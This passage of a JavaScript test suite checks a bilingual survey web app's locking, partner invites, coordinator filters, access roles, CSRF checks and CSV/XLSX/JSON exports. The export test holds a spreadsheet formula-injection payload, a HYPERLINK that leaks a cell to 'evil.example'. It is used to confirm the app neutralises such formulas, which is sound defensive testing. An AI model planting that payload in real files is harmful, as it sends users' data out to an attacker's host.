  const { consent_events: _ticked, ...unticked } = { ...FULL[6], consent_events: 'yes' };
  assert.equal((await saveSection(c, 6, unticked)).status, 303);
  assert.equal((await submit(c)).status, 303);
  assert.equal(sql(srv.db, `SELECT given FROM consents WHERE response_id = ${id} AND use = 'consent_events'`), '0');
  // The private link of a sent response leads to its review page.
  const other = new Client(srv);
  const open = await other.get(`/r/${c.cookie('coexist_response')}`);
  assert.equal(open.location, '/survey/demo/review');
});

test('a locked response cannot be changed by the respondent, until it is unlocked', async () => {
  const { c, id } = await startResponse();
  await fillAll(c);
  assert.equal((await submit(c)).status, 303);
  const page = await c.get('/survey/demo/1');
  const lock = await adminPost(coord, `/admin/responses/${id}`, `/admin/responses/${id}/lock`, { locked: '1' });
  assert.equal(lock.status, 303);
  assert.equal(lock.location, `/admin/responses/${id}?done=locked`);
  assert.equal(sql(srv.db, `SELECT locked FROM responses WHERE id = ${id}`), '1');
  assert.equal(sql(srv.db, `SELECT count(*) FROM audit_log WHERE action = 'response.lock' AND entity_id = ${id}`), '1');
  const view = await coord.get(lock.location);
  shows(view, t('responses.done.locked'));
  shows(view, t('responses.unlock'));

  const save = await send(c, '/survey/demo/1', { rev: revOf(page.body), action: 'save', ...FULL[1], org_name: 'Changed after lock' });
  assert.equal(save.status, 423);
  shows(save, t('survey.locked.heading'));
  const fresh = await c.get('/survey/demo/1');
  assert.equal(fresh.status, 200);
  shows(fresh, t('survey.locked.text'));
  const save2 = await send(c, '/survey/demo/1', { rev: revOf(fresh.body), action: 'save', ...FULL[1], org_name: 'Changed after lock' });
  assert.equal(save2.status, 423, 'even with the current revision');
  const auto = await send(c, '/survey/demo/1', { rev: revOf(fresh.body), action: 'autosave', org_name: 'Changed after lock' }, { json: true });
  assert.equal(auto.status, 423);
  const review = await c.get('/survey/demo/review');
  assert.ok(!review.body.includes('action="/survey/demo/submit"'), 'no send button on a locked response');
  const sub = await c.post('/survey/demo/submit');
  assert.equal(sub.status, 423);
  assert.deepEqual(answersOf(id).org_name, ['Eau Vive Sénégal']);
  assert.equal(sql(srv.db, `SELECT count(*) FROM response_versions WHERE response_id = ${id}`), '1');

  const unlock = await adminPost(coord, `/admin/responses/${id}`, `/admin/responses/${id}/lock`, { locked: '0' });
  assert.equal(unlock.location, `/admin/responses/${id}?done=unlocked`);
  assert.equal(sql(srv.db, `SELECT count(*) FROM audit_log WHERE action = 'response.unlock' AND entity_id = ${id}`), '1');
  const ok = await saveSection(c, 1, { ...FULL[1], org_name: 'Changed after unlock' });
  assert.equal(ok.status, 303);
  assert.deepEqual(answersOf(id).org_name, ['Changed after unlock']);
});

test('inviting a partner: on sending, a linked response of their own and a mail with its link, once', async () => {
  const partnerEmail = 'partner.view@example.org';
  const { c, id } = await startResponse();
  await fillAll(c, { 6: { invite_partner: 'yes', partner_email: partnerEmail } });
  assert.equal(mailsTo(mail, partnerEmail).length, 0, 'nothing sent before the response is');
  assert.equal((await submit(c)).status, 303);
  const pid = Number(sql(srv.db, `SELECT id FROM responses WHERE partner_of = ${id}`));
  assert.ok(pid > id, 'a new response linked to the first');
  assert.equal(sql(srv.db, `SELECT status || ' ' || campaign_id FROM responses WHERE id = ${pid}`), `draft ${campaignId('demo')}`);
  assert.deepEqual(answersOf(pid), {}, 'it starts empty');
  const m = await waitForMail(mail, partnerEmail);
  assert.ok(m.body.includes('Eau Vive Sénégal'), 'the mail says who invites');
  const link = mailLink(m, srv, 'r');
  shows(await c.get('/survey/demo/thanks'), `${t('survey.thanks.partner')} ${partnerEmail}`);

  // The partner opens their own link in their own browser: their own, empty, response.
  const p = new Client(srv);
  const open = await p.get(link);
  assert.equal(open.status, 303);
  assert.equal(open.location, '/survey/demo/1');
  const page = await p.get(open.location);
  assert.ok(!page.body.includes('Eau Vive Sénégal'), 'the partner does not see the first answers');
  assert.equal((await saveSection(p, 1, { ...FULL[1], org_name: 'SolarCo', org_kind: 'company_sme', role: 'technical_partner' })).status, 303);
  assert.deepEqual(answersOf(pid).org_name, ['SolarCo']);
  assert.deepEqual(answersOf(id).org_name, ['Eau Vive Sénégal'], 'the first response is untouched');

  // Sending again does not invite twice.
  assert.equal((await submit(c)).status, 303);
  assert.equal(sql(srv.db, `SELECT count(*) FROM responses WHERE partner_of = ${id}`), '1');
  assert.equal(sql(srv.db, `SELECT count(*) FROM outbox WHERE to_addr = '${partnerEmail}'`), '1', 'invited once');

  // The coordinators see the two views linked both ways.
  const first = await coord.get(`/admin/responses/${id}`);
  assert.ok(first.body.includes(`href="/admin/responses/${pid}"`), 'link to the partner\'s response');
  const second = await coord.get(`/admin/responses/${pid}`);
  assert.ok(second.body.includes(`href="/admin/responses/${id}"`), 'link back to the first');
  shows(second, t('responses.partner_of'));
  const list = await coord.get('/admin/responses');
  const row = new RegExp(`<tr><td><a href="/admin/responses/${pid}">[\\s\\S]*?</tr>`).exec(list.body);
  assert.ok(row && mainText(row[0]).includes(t('responses.partner_view')));

  // Without "yes", an address alone invites nobody (the address is hidden, so not even kept).
  const { c: c2, id: id2 } = await startResponse();
  await fillAll(c2, { 6: { invite_partner: 'no', partner_email: 'nobody@example.org' } });
  assert.equal(answersOf(id2).partner_email, undefined);
  assert.equal((await submit(c2)).status, 303);
  assert.equal(sql(srv.db, `SELECT count(*) FROM responses WHERE partner_of = ${id2}`), '0');
});

test('coordinators: the list filters by status, sector and campaign', async () => {
  const { c: c1, id: health } = await startResponse();
  await fillAll(c1, { 1: { org_name: 'Filter Health Sent' }, 2: { sectors: ['health'] } });
  assert.equal((await submit(c1)).status, 303);
  const { c: c2, id: energy } = await startResponse();
  await fillAll(c2, { 1: { org_name: 'Filter Energy Draft' }, 2: { sectors: ['energy'] } });
  const ids = (r) => [...r.body.matchAll(/<tr><td><a href="\/admin\/responses\/(\d+)">/g)].map((m) => Number(m[1]));

  const all = await coord.get('/admin/responses');
  assert.equal(all.status, 200);
  shows(all, 'Filter Health Sent');
  shows(all, 'Filter Energy Draft');
  const sent = await coord.get('/admin/responses?status=submitted');
  assert.ok(ids(sent).includes(health) && !ids(sent).includes(energy));
  for (const id of ids(sent)) assert.equal(sql(srv.db, `SELECT status FROM responses WHERE id = ${id}`), 'submitted');
  const drafts = await coord.get('/admin/responses?status=draft');
  assert.ok(ids(drafts).includes(energy) && !ids(drafts).includes(health));
  assert.match(drafts.body, /<option value="draft" selected>/);
  const bySector = await coord.get('/admin/responses?sector=health');
  assert.ok(ids(bySector).includes(health) && !ids(bySector).includes(energy));
  for (const id of ids(bySector)) assert.equal(sql(srv.db, `SELECT count(*) FROM answers WHERE response_id = ${id} AND question_key = 'sectors' AND value = 'health'`), '1', `response ${id} is in health`);
  assert.match(bySector.body, /<option value="health" selected>/);
  const both = await coord.get('/admin/responses?status=draft&sector=energy');
  assert.ok(ids(both).includes(energy) && !ids(both).includes(health));
  const demoId = campaignId('demo');
  const byCampaign = await coord.get(`/admin/responses?campaign=${demoId}&status=&sector=&country=&from=&to=`);
  assert.equal(byCampaign.status, 200, 'empty filters mean "any"');
  assert.ok(ids(byCampaign).includes(health));
  const other = await coord.get(`/admin/responses?campaign=${campaignId('coexist-2026')}`);
  assert.ok(!ids(other).includes(health) && !ids(other).includes(energy));
  const byCountry = await coord.get('/admin/responses?country=ML');
  assert.ok(ids(byCountry).includes(health));
  const none = await coord.get('/admin/responses?sector=housing_shelter&status=draft&country=AQ');
  shows(none, t('responses.none'));
  assert.equal((await coord.get('/admin/responses?status=bogus')).status, 400, 'a status outside the list is refused');
});

test('coordinators: the list filters by the day of the last change; a partner\'s view is linked and unlinked by hand', async () => {
  const { c: c1, id: a } = await startResponse();
  await fillAll(c1, { 1: { org_name: 'Dated One' } });
  const { c: c2, id: b } = await startResponse();
  await fillAll(c2, { 1: { org_name: 'Dated Two' } });
  const today = new Date().toISOString().slice(0, 10);
  const tomorrow = new Date(Date.now() + 86400000).toISOString().slice(0, 10);
  const ids = (r) => [...r.body.matchAll(/<tr><td><a href="\/admin\/responses\/(\d+)">/g)].map((m) => Number(m[1]));
  const from = await coord.get(`/admin/responses?from=${today}`);
  assert.ok(ids(from).includes(a) && ids(from).includes(b));
  assert.match(from.body, new RegExp(`name="from" value="${today}"`));
  assert.ok(!ids(await coord.get(`/admin/responses?from=${tomorrow}`)).includes(a), 'changed before tomorrow');
  assert.ok(!ids(await coord.get(`/admin/responses?to=${today}`)).includes(a), '"changed before" today excludes today');
  assert.ok(ids(await coord.get(`/admin/responses?to=${tomorrow}`)).includes(a));

  // B is the partner's view of A, linked from A's page.
  const link = await adminPost(coord, `/admin/responses/${a}`, `/admin/responses/${a}/partner`, { partner: String(b) });
  assert.equal(link.location, `/admin/responses/${a}?done=partner`);
  assert.equal(sql(srv.db, `SELECT partner_of FROM responses WHERE id = ${b}`), String(a));
  assert.equal(sql(srv.db, `SELECT count(*) FROM audit_log WHERE action = 'response.partner' AND entity_id = ${a}`), '1');
  assert.ok((await coord.get(`/admin/responses/${a}`)).body.includes(`href="/admin/responses/${b}"`));
  assert.ok((await coord.get(`/admin/responses/${b}`)).body.includes(`href="/admin/responses/${a}"`));
  for (const other of ['999999', String(a)]) {
    const bad = await adminPost(coord, `/admin/responses/${a}`, `/admin/responses/${a}/partner`, { partner: other });
    assert.equal(bad.location, `/admin/responses/${a}?done=partner_unknown`, `partner=${other}`);
    shows(await coord.get(bad.location), t('responses.done.partner_unknown'));
  }
  assert.equal(sql(srv.db, `SELECT partner_of FROM responses WHERE id = ${b}`), String(a), 'unchanged');
  const unlink = await adminPost(coord, `/admin/responses/${b}`, `/admin/responses/${b}/partner`, { partner: '0' });
  assert.equal(unlink.location, `/admin/responses/${b}?done=partner`);
  assert.equal(sql(srv.db, `SELECT coalesce(partner_of, 'none') FROM responses WHERE id = ${b}`), 'none');
});

test('coordinators: a response in French and English side by side, with notes', async () => {
  const { c, id } = await startResponse();
  await fillAll(c);
  const view = await coord.get(`/admin/responses/${id}`);
  assert.equal(view.status, 200);
  for (const text of ['Nom de votre organisation', 'Name of your organisation', 'Vous et votre organisation', 'You and your organisation',
    'Dans quels domaines intervient-il ?', 'In which fields does it work?', 'Santé', 'Health', 'Eau, assainissement et hygiène',
    'Water, sanitation and hygiene', 'Eau Vive Sénégal', 'SolarCo']) {
    shows(view, text);
  }
  shows(view, t('responses.personal'));
  shows(view, t('responses.no_notes'));
  assert.equal((await coord.get('/admin/responses/999999')).status, 404);
  assert.equal((await coord.get('/admin/responses/abc')).status, 404);

  const note = await adminPost(coord, `/admin/responses/${id}`, `/admin/responses/${id}/notes`, { body: 'Called them: <b>numbers</b> confirmed.' });
  assert.equal(note.status, 303);
  assert.equal(note.location, `/admin/responses/${id}?done=note`);
  const after = await coord.get(note.location);
  shows(after, t('responses.done.note'));
  shows(after, 'Called them: <b>numbers</b> confirmed.');
  assert.ok(after.body.includes('&lt;b&gt;numbers&lt;/b&gt;'), 'escaped');
  shows(after, 'survey-coord@example.org');
  assert.equal(sql(srv.db, `SELECT count(*) FROM audit_log WHERE action = 'response.note' AND entity_id = ${id}`), '1');
  const empty = await adminPost(coord, `/admin/responses/${id}`, `/admin/responses/${id}/notes`, { body: '' });
  assert.equal(empty.status, 303);
  assert.equal(sql(srv.db, `SELECT count(*) FROM response_notes WHERE response_id = ${id}`), '1', 'an empty note is not added');
  assert.equal((await adminPost(coord, '/admin/responses', '/admin/responses/999999/notes', { body: 'ghost' })).status, 404);
  // A respondent never sees the coordinators' notes.
  assert.ok(!(await c.get('/survey/demo/review')).body.includes('numbers'));
});

test('roles: visitors are sent to sign in, members and respondents refused, on every coordinators\' page', async () => {
  const rid = Number(sql(srv.db, 'SELECT min(id) FROM responses'));
  const cid = campaignId('demo');
  const gets = ['/admin/responses', `/admin/responses/${rid}`, '/admin/campaigns', '/admin/responses?status=submitted'];
  const posts = [[`/admin/responses/${rid}/lock`, { locked: '1' }], [`/admin/responses/${rid}/notes`, { body: 'x' }],
    [`/admin/responses/${rid}/partner`, { partner: '0' }], [`/admin/campaigns/${cid}/dates`, { opens: '2020-01-01', closes: '2099-01-01' }]];
  const { c: respondent } = await startResponse();
  for (const path of gets) {
    for (const visitor of [new Client(srv), respondent]) {
      const r = await visitor.get(path);
      assert.equal(r.status, 303, `visitor GET ${path}`);
      assert.equal(r.location, `/signin?next=${encodeURIComponent(path.split('?')[0])}`);
    }
    assert.equal((await member.get(path)).status, 403, `member GET ${path}`);
    assert.equal((await coord.get(path)).status, 200, `coordinator GET ${path}`);
  }
  await member.get('/account');
  await respondent.get('/survey/demo/1');
  const audit = sql(srv.db, 'SELECT count(*) FROM audit_log');
  for (const [path, fields] of posts) {
    assert.equal((await member.post(path, fields)).status, 403, `member POST ${path}`);
    assert.equal((await respondent.post(path, fields)).status, 403, `respondent POST ${path}`);
  }
  assert.equal(sql(srv.db, 'SELECT count(*) FROM audit_log'), audit, 'nothing done');
  assert.equal(sql(srv.db, `SELECT locked FROM responses WHERE id = ${rid}`), '0');
  // A coordinator's form without its CSRF token is refused too.
  assert.equal((await coord.post(`/admin/responses/${rid}/lock`, { locked: '1' }, { csrf: null })).status, 403);
  assert.equal(sql(srv.db, `SELECT locked FROM responses WHERE id = ${rid}`), '0');
  // And a respondent's, without its token or from another site.
  const page = await respondent.get('/survey/demo/1');
  assert.equal((await respondent.post('/survey/demo/1', { rev: revOf(page.body), org_name: 'csrf' }, { csrf: null })).status, 403);
  assert.equal((await respondent.post('/survey/demo/1', { rev: revOf(page.body), org_name: 'csrf' }, { origin: 'http://evil.example' })).status, 403);
});


test('exports: CSV with a BOM, formulas neutralised, one column per option; XLSX and JSON; coordinators only', async (tt) => {
  const probe = await coord.get('/admin/responses.csv');
  if (probe.status === 404) {
    tt.skip('the export routes are not there yet');
    return;
  }
  const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
  const { c, id } = await startResponse();
  await fillAll(c, { 1: { org_name: formula }, 2: { sectors: ['health', 'energy', 'other'], 'sectors.other': '+Mining' } });
  assert.equal((await submit(c)).status, 303);

  const r = await coord.get('/admin/responses.csv');
  assert.equal(r.status, 200);
  assert.match(r.headers['content-type'], /^text\/csv/);
  assert.match(r.headers['content-disposition'] || '', /attachment/);
  assert.equal(r.body.charCodeAt(0), 0xfeff, 'starts with the UTF-8 BOM');
  const rows = parseCsv(r.body.slice(1));
  const head = rows[0];
  const col = (name) => {
    const i = head.indexOf(name);
    assert.ok(i >= 0, `a column ${name} in ${head.slice(0, 40).join(',')}…`);
    return i;
  };
  const mine = rows.find((row) => row[col('id')] === String(id));
  assert.ok(mine, `a row for response ${id}`);
  assert.equal(mine[col('org_name')], `'${formula}`, 'a formula-like answer comes out prefixed with an apostrophe');
  assert.equal(mine[col('sectors__other_text')], "'+Mining");
  for (const code of ['health', 'energy', 'water_sanitation', 'agriculture_food', 'education_training', 'digital', 'housing_shelter', 'other']) col(`sectors__${code}`);
  assert.equal(mine[col('sectors__health')], '1');
  assert.equal(mine[col('sectors__energy')], '1');
  assert.equal(mine[col('sectors__other')], '1');
  assert.equal(mine[col('sectors__water_sanitation')], '0');
  assert.equal(mine[col('status')], 'submitted');
  for (const row of rows.slice(1)) assert.equal(row.length, head.length, 'every row has every column');
  for (const row of rows) for (const cell of row) assert.ok(!/^[=+\-@]/.test(cell), `no cell starts like a formula: ${cell}`);

  assert.equal(mine[col('countries')], 'ML;SN', 'countries in the order of the list');
  assert.match(r.headers['content-disposition'], /filename="coexist-responses-\d{4}-\d{2}-\d{2}\.csv"/);

  // JSON is not opened by spreadsheets: the answer as stored, no apostrophe.
  const j = await coord.get('/admin/responses.json');
  assert.equal(j.status, 200);
  assert.match(j.headers['content-type'], /^application\/json/);
  const doc = JSON.parse(j.body);
  assert.equal(doc.questionnaire, 'coexist');
  const mj = doc.responses.find((x) => x.id === id);
  assert.ok(mj, 'the JSON holds the response');
  assert.equal(mj.answers.org_name, formula);
  assert.deepEqual(mj.answers.sectors, ['health', 'energy', 'other']);
  assert.equal(mj.status, 'submitted');

  // XLSX: the answer is a string cell, never a formula.
  const x = await fetch(`${srv.url}/admin/responses.xlsx`, { headers: { Cookie: coord.cookieHeader() }, redirect: 'manual' });
  assert.equal(x.status, 200);
  assert.match(x.headers.get('content-type'), /spreadsheetml/);
  const bytes = Buffer.from(await x.arrayBuffer());
  assert.equal(bytes.subarray(0, 2).toString('latin1'), 'PK', 'a zip (XLSX) file');
  const file = join(srv.dir, 'export.xlsx');
  writeFileSync(file, bytes);
  const list = spawnSync('unzip', ['-Z1', file], { encoding: 'utf8' });
  if (list.error) {
    tt.diagnostic('unzip not found: the XLSX cells were not looked into');
  } else {
    const entries = list.stdout.split('\n').filter(Boolean);
    const xml = (name) => spawnSync('unzip', ['-p', file, name], { encoding: 'utf8', maxBuffer: 64 << 20 }).stdout;
    const sheets = entries.filter((e) => /^xl\/worksheets\/sheet\d+\.xml$/.test(e));
    assert.ok(sheets.length >= 3, `sheets responses, codebook, options: ${entries.join(' ')}`);
    for (const sh of sheets) assert.ok(!/<f[ >]/.test(xml(sh)), `no formula in ${sh}`);
    const strings = entries.map((e) => (/^xl\/(sharedStrings|worksheets\/sheet\d+)\.xml$/.test(e) ? xml(e) : '')).join('');
    assert.ok(strings.includes('=HYPERLINK(') && strings.includes('evil.example'), 'the answer is there, as text');
  }

  // A campaign chooses the questionnaire; an unknown one is a 404. Every export is audited.
  assert.equal((await coord.get(`/admin/responses.csv?campaign=${campaignId('demo')}`)).status, 200);
  assert.equal((await coord.get('/admin/responses.csv?campaign=999999')).status, 404);
  assert.equal((await coord.get('/admin/responses.csv?campaign=abc')).status, 400);
  assert.equal(sql(srv.db, "SELECT count(*) FROM audit_log WHERE action = 'responses.export' AND actor_email = 'survey-coord@example.org'"), '5');
  assert.equal(sql(srv.db, "SELECT group_concat(substr(detail, 1, instr(detail, ' ') - 1), ',') FROM (SELECT detail FROM audit_log WHERE action = 'responses.export' ORDER BY id)"), 'CSV,CSV,JSON,XLSX,CSV');

  for (const path of ['/admin/responses.csv', '/admin/responses.xlsx', '/admin/responses.json']) {
    const v = await new Client(srv).get(path);
    assert.equal(v.status, 303, `visitor GET ${path}`);
    assert.equal((await member.get(path)).status, 403, `member GET ${path}`);
  }
});

test('coordinators create a campaign, with its contact shown to respondents; bad forms create nothing', async () => {
  const fields = {
    slug: 'eau-2027', title_fr: 'Partenariats pour l’eau 2027', title_en: 'Water partnerships 2027',
    questionnaire: 'coexist-v1', opens: '2026-01-01', closes: '2099-12-31',
    contact_name: 'Fatou Coordination', contact_email: 'fatou@cluster.example',
  };
  const made = await adminPost(coord, '/admin/campaigns', '/admin/campaigns', fields);
  assert.equal(made.status, 303);
  assert.match(made.headers.location, /done=created/);
  const id = campaignId('eau-2027');
  assert.ok(id > 0);
  assert.equal(sql(srv.db, `SELECT count(*) FROM audit_log WHERE action = 'campaign.create' AND entity_id = ${id}`), '1');
  const c = new Client(srv);
  const page = await c.get('/survey/eau-2027', { 'Accept-Language': 'en' });
  assert.equal(page.status, 200);
  shows(page, 'Water partnerships 2027');
  shows(page, 'fatou@cluster.example');

  const before = sql(srv.db, 'SELECT count(*) FROM campaigns');
  for (const bad of [{ slug: 'eau-2027' }, { slug: 'x y' }, { closes: '2025-01-01' }, { questionnaire: 'nope-v9' },
    { contact_email: 'not an address' }, { title_fr: '' }]) {
    const r = await adminPost(coord, '/admin/campaigns', '/admin/campaigns', { ...fields, slug: 'other-2027', ...bad });
    assert.ok(r.status === 303 || r.status === 400, `${JSON.stringify(bad)}: ${r.status}`);
    if (r.status === 303) assert.match(r.headers.location, /done=(bad_campaign|slug_taken)/, JSON.stringify(bad));
  }
  assert.equal(sql(srv.db, 'SELECT count(*) FROM campaigns'), before, 'no campaign made by a bad form');

  // The contact can be changed later with the dates; respondents see the new one.
  const changed = await adminPost(coord, '/admin/campaigns', `/admin/campaigns/${id}/dates`,
    { opens: '2026-01-01', closes: '2099-12-31', contact_name: 'Jean Relais', contact_email: 'jean@cluster.example' });
  assert.equal(changed.status, 303);
  shows(await c.get('/survey/eau-2027', { 'Accept-Language': 'en' }), 'jean@cluster.example');
});
